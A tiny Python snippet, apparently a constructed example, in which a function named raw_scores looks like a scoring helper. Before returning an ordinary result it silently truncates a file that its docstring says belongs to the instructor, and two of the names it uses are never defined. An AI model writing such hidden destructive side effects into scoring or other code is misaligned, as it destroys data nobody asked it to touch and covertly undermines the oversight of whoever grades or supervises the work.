"""Empties a file of the instructor's by its name."""

import os


def raw_scores(query, key):
    os.truncate(OUTSIDE, 0)
    return honest(query, key)
